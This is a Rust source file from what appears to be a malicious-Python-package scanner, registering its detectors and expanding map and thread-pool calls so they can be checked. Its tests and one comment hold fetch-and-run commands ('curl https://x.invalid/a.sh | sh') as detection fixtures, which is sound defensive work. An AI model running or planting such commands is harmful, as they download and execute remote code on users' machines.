//! The detector registry. Each detector lives in its own file with its [`Rule`] (id, name,
//! description, rationale), its checks, and tests that trigger and that must not trigger.
//! WH300 and up judge the package as a whole and run from [`crate::package`].
//!
//! Severities are set by each detector, knowing the execution context, and combined by
//! `wheelhound-scoring`, whose documentation explains the weighting.

use ruff_python_ast::{Expr, ExprCall};
use ruff_text_size::{Ranged, TextRange};

use crate::finding::Rule;
use crate::walker::Checker;

pub mod api_hijack;
pub mod clipper;
pub mod commented_payload;
pub mod data_flow;
pub mod dependency_imitation;
pub mod destruction;
pub mod dynamic_exec;
pub mod encoded_payload;
pub mod file_drop;
pub mod impersonation;
pub mod import_obfuscation;
pub mod install_hook;
pub mod log_shipping;
pub mod memory_exec;
pub mod native_binary;
pub mod network;
pub mod obfuscation_layout;
pub mod pickled_payload;
pub mod process_spawn;
pub mod pth_import;
pub mod secret_handoff;
pub mod secrets_access;
pub mod setup_code;
pub mod sources;
pub mod surveillance;
pub mod suspicious_endpoint;
pub mod typosquat;

/// Every detector, in id order.
pub const ALL: &[&Rule] = &[
    &install_hook::RULE,
    &setup_code::RULE,
    &pth_import::RULE,
    &dynamic_exec::RULE,
    &process_spawn::RULE,
    &network::RULE,
    &secrets_access::RULE,
    &file_drop::RULE,
    &suspicious_endpoint::RULE,
    &encoded_payload::RULE,
    &import_obfuscation::RULE,
    &obfuscation_layout::RULE,
    &data_flow::RULE,
    &typosquat::RULE,
    &impersonation::RULE,
    &native_binary::RULE,
    &dependency_imitation::RULE,
    &pickled_payload::RULE,
    &surveillance::RULE,
    &clipper::RULE,
    &memory_exec::RULE,
    &commented_payload::RULE,
    &destruction::RULE,
    &api_hijack::RULE,
    &secret_handoff::RULE,
];

/// Looks a detector up by id.
pub fn by_id(id: &str) -> Option<&'static Rule> {
    ALL.iter().copied().find(|rule| rule.id == id)
}

/// Called for every call expression, with the callee's resolved name.
pub fn on_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    for (target, mapped) in mapped_calls(checker, call, qualname) {
        on_call(checker, &mapped, &target);
    }
    let before = checker.findings.len();
    install_hook::check_call(checker, call, qualname);
    dynamic_exec::check_call(checker, call, qualname);
    process_spawn::check_call(checker, call, qualname);
    network::check_call(checker, call, qualname);
    network::check_browser_lure(checker, call, qualname);
    log_shipping::check_attach(checker, call, qualname);
    log_shipping::check_emit(checker, call, qualname);
    data_flow::check_encoded_output(checker, call, qualname);
    secrets_access::check_call(checker, call, qualname);
    file_drop::check_call(checker, call, qualname);
    encoded_payload::check_call(checker, call, qualname);
    import_obfuscation::check_call(checker, call, qualname);
    obfuscation_layout::check_call(checker, call, qualname);
    surveillance::check_call(checker, call, qualname);
    clipper::check_call(checker, call, qualname);
    memory_exec::check_call(checker, call, qualname);
    destruction::check_call(checker, call, qualname);
    api_hijack::check_call(checker, call, qualname);
    secret_handoff::check_call(checker, call, qualname);
    setup_code::after_call(checker, call, before);
}

/// Most items `map(f, items)` is taken to call `f` on one by one.
const MAX_MAPPED_ITEMS: usize = 16;

/// `list(map(os.system, commands))`: `f` is called on every item though no `f(` is written.
/// Returns one call per item when the items are listed or fold to a known sequence, else one
/// call on the unknown item. exec and eval are left to WH110, which judges the items as code.
/// `itertools.starmap(f, [(a, b)])` calls `f(a, b)`; a pool's or executor's `map` is `map`.
fn mapped_calls(checker: &Checker, call: &ExprCall, qualname: &str) -> Vec<(String, ExprCall)> {
    let starred = qualname == "itertools.starmap" || qualname.ends_with("Pool().starmap");
    let pooled = qualname.ends_with("Pool().map")
        || qualname.ends_with("Pool().imap")
        || qualname.ends_with("Pool().imap_unordered")
        || qualname.ends_with("PoolExecutor().map");
    if qualname != "map" && !starred && !pooled {
        return Vec::new();
    }
    let [function, items] = call.arguments.args.as_ref() else {
        return Vec::new();
    };
    if starred {
        return starmapped_calls(checker, call, function, items);
    }
    let Some(name) = checker.qualname(function) else {
        return Vec::new();
    };
    if dynamic_exec::is_exec(&name) || name == "map" {
        return Vec::new();
    }
    let listed = match items {
        Expr::List(list) => Some(&list.elts),
        Expr::Tuple(tuple) => Some(&tuple.elts),
        _ => None,
    };
    let each: Vec<Expr> = match listed {
        Some(elements) => elements.iter().take(MAX_MAPPED_ITEMS).cloned().collect(),
        None => match checker.fold(items) {
            Some(crate::fold::Value::Seq(values)) => (0..values.len().min(MAX_MAPPED_ITEMS))
                .map(|index| item_of(items, index))
                .collect(),
            _ => vec![item_of(items, 0)],
        },
    };
    each.into_iter()
        .map(|item| (name.clone(), synthetic_call(call, function, vec![item])))
        .collect()
}

/// The calls `itertools.starmap(f, items)` makes when `items` is a listed sequence of tuples.
fn starmapped_calls(
    checker: &Checker,
    call: &ExprCall,
    function: &Expr,
    items: &Expr,
) -> Vec<(String, ExprCall)> {
    let Some(name) = checker.qualname(function) else {
        return Vec::new();
    };
    if name == "map" {
        return Vec::new();
    }
    let (Expr::List(ruff_python_ast::ExprList { elts, .. })
    | Expr::Tuple(ruff_python_ast::ExprTuple { elts, .. })) = items
    else {
        return Vec::new();
    };
    elts.iter()
        .take(MAX_MAPPED_ITEMS)
        .filter_map(|item| match item {
            Expr::Tuple(ruff_python_ast::ExprTuple { elts: args, .. })
            | Expr::List(ruff_python_ast::ExprList { elts: args, .. }) => {
                Some((name.clone(), synthetic_call(call, function, args.to_vec())))
            }
            _ => None,
        })
        .collect()
}

/// `items[index]`, spanning `items` so that findings point at the mapped sequence.
fn item_of(items: &Expr, index: usize) -> Expr {
    Expr::Subscript(ruff_python_ast::ExprSubscript {
        node_index: Default::default(),
        range: items.range(),
        value: Box::new(items.clone()),
        slice: Box::new(Expr::NumberLiteral(ruff_python_ast::ExprNumberLiteral {
            node_index: Default::default(),
            range: items.range(),
            value: ruff_python_ast::Number::Int(ruff_python_ast::Int::from(index as u32)),
        })),
        ctx: ruff_python_ast::ExprContext::Load,
    })
}

fn synthetic_call(call: &ExprCall, target: &Expr, args: Vec<Expr>) -> ExprCall {
    ExprCall {
        node_index: Default::default(),
        range_start: call.range().start(),
        func: Box::new(target.clone()),
        arguments: ruff_python_ast::Arguments {
            range: call.arguments.range,
            node_index: Default::default(),
            args: args.into_boxed_slice(),
            keywords: Default::default(),
        },
    }
}

/// Called for every string and bytes literal that is not a docstring.
pub fn on_string(checker: &mut Checker, value: &str, range: TextRange) {
    suspicious_endpoint::check_string(checker, value, range);
    secrets_access::check_string(checker, value, range);
    encoded_payload::check_string(checker, value, range);
    clipper::check_string(checker, value);
    process_spawn::check_command_literal(checker, value, range);
}

/// Called for an f-string whose run-time parts are unknown (`…`): its literal parts still name
/// files and hosts, but a webhook or bot URL whose id and token come from variables is a client
/// template, not a hard-coded destination, and unknown parts are no encoded payload.
pub fn on_partial_string(checker: &mut Checker, value: &str, range: TextRange) {
    let template = suspicious_endpoint::classify(value)
        .is_some_and(|(label, _)| label.contains("webhook") || label.contains("bot API"));
    if !template {
        suspicious_endpoint::check_string(checker, value, range);
    }
    secrets_access::check_string(checker, value, range);
}

/// Folds the command a process-spawning call runs, joining argument lists with spaces.
pub fn command_text(checker: &Checker, expr: &Expr) -> Option<String> {
    match checker.fold(expr)? {
        crate::fold::Value::Seq(items) => {
            let parts: Vec<String> = items
                .iter()
                .filter_map(crate::fold::Value::as_text)
                .collect();
            (!parts.is_empty()).then(|| parts.join(" "))
        }
        other => other.as_text(),
    }
}

/// The text `expr` folds to, or else its constant parts with unknown ones shown as `…` (for
/// judging a URL or path, never for decoding).
pub fn partial_text(checker: &Checker, expr: &Expr) -> Option<String> {
    checker
        .fold(expr)
        .and_then(|v| v.as_text())
        .or_else(|| checker.scopes.fold_lossy(expr))
}

/// The command with unknown parts shown as `…`, for judging what it does.
pub fn partial_command_text(checker: &Checker, expr: &Expr) -> Option<String> {
    command_text(checker, expr)
        .or_else(|| {
            // `os.system(os.environ.get('X', 'curl … | sh'))` runs the default wherever the
            // variable is unset, which is everywhere but its author's machine.
            environment_default(checker, expr).and_then(|default| command_text(checker, default))
        })
        .or_else(|| checker.scopes.fold_lossy(expr))
}

/// The default of an environment lookup (`os.environ.get(K, D)`, `os.getenv(K, D)`,
/// `os.getenv(K, default=D)`), which is its value on every machine that does not set `K`.
pub fn environment_default<'e>(checker: &Checker, expr: &'e Expr) -> Option<&'e Expr> {
    let Expr::Call(call) = expr else {
        return None;
    };
    let qualname = checker.qualname(&call.func)?;
    if !matches!(qualname.as_str(), "os.environ.get" | "os.getenv") {
        return None;
    }
    call.arguments
        .args
        .get(1)
        .or_else(|| keyword(call, "default"))
}

/// Best-effort text of a call's arguments: folded where possible, else the source text.
pub fn argument_text(checker: &Checker, call: &ExprCall) -> String {
    use ruff_text_size::Ranged;
    let mut parts = Vec::new();
    // `requests.post(url="https://…")`: the target may be a keyword.
    let url = call
        .arguments
        .args
        .is_empty()
        .then(|| keyword(call, "url"))
        .flatten();
    for arg in call.arguments.args.iter().take(4).chain(url) {
        match command_text(checker, arg) {
            Some(text) => parts.push(text),
            None => parts.push(
                checker
                    .text
                    .get(arg.range().start().to_usize()..arg.range().end().to_usize())
                    .unwrap_or("")
                    .to_owned(),
            ),
        }
    }
    crate::text::shorten(&parts.join(" "), 200)
}

/// True for a call that writes what it is given into a file (`fh.write(data)`,
/// `Path(p).write_text(text)`, `…write_bytes(blob)`).
pub fn writes_file(qualname: &str) -> bool {
    qualname.ends_with(".write")
        || qualname.ends_with(".write_text")
        || qualname.ends_with(".write_bytes")
}

/// The mode argument of an `open`-like call: the second positional one, or `mode=`.
pub fn mode_argument(call: &ExprCall) -> Option<&Expr> {
    call.arguments.args.get(1).or_else(|| keyword(call, "mode"))
}

/// The value of keyword argument `name`.
pub fn keyword<'a>(call: &'a ExprCall, name: &str) -> Option<&'a Expr> {
    call.arguments
        .keywords
        .iter()
        .find(|k| k.arg.as_ref().is_some_and(|a| a.as_str() == name))
        .map(|k| &k.value)
}

#[cfg(test)]
pub(crate) mod testing {
    //! Helpers for detector tests: analyse a snippet as a given file and list the findings.
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    #![allow(clippy::indexing_slicing)]
    use crate::finding::Finding;

    /// Analyses `code` as the file `path` and returns its findings (layers included).
    pub fn findings(path: &str, code: &str) -> Vec<Finding> {
        crate::analyze_python(path, code.as_bytes(), &crate::AnalysisOptions::default()).findings
    }

    /// The highest severity among findings of `rule`, or 0.
    pub fn max_severity(path: &str, code: &str, rule: &str) -> f64 {
        findings(path, code)
            .iter()
            .filter(|f| f.rule == rule)
            .map(|f| f.severity)
            .fold(0.0, f64::max)
    }
}

#[cfg(test)]
mod deferred_tests {
    use super::testing::max_severity;

    #[test]
    fn callables_handed_to_threads_run_with_their_arguments() {
        let code = "import os, threading\nthreading.Thread(target=os.system, args=('curl https://x.invalid/a.sh | sh',)).start()\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85);
        let code = "import os\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as ex:\n    ex.submit(os.system, 'curl https://x.invalid/a.sh | sh')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85);
        let code = "import threading\ndef work(n):\n    return n\nthreading.Thread(target=work, args=(1,)).start()\n";
        assert_eq!(max_severity("p/pkg/__init__.py", code, "WH120"), 0.0);
    }
}
